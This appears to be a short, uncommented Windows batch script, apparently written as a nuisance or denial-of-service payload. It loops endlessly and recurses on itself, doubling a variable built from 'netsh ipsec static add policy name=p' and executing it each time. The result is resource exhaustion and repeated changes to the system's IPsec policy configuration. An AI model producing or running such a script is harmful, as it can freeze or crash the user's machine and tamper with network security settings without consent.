:top
set B=%B%netsh ipsec static add policy name=p%B%
%B%
call :top
goto top
